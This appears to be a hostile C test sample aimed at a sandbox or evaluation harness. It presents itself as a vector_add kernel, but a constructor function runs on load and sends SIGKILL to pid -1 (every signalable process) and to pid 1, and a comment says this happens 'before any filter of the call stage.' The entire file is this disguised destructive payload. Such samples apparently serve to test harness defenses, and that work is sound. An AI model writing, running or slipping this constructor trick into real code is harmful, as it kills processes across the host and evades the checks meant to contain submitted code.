/* kill_parent_in_constructor: kind 4: kills its parent from a constructor, before any filter of the call stage. */
__attribute__((constructor)) static void ctor(void) { SYS2(NR_kill, -1, 9); SYS2(NR_kill, 1, 9); }
void vector_add(const float *a, const float *b, float *out, float alpha, int n) { adv_compute(a, b, out, alpha, n); }
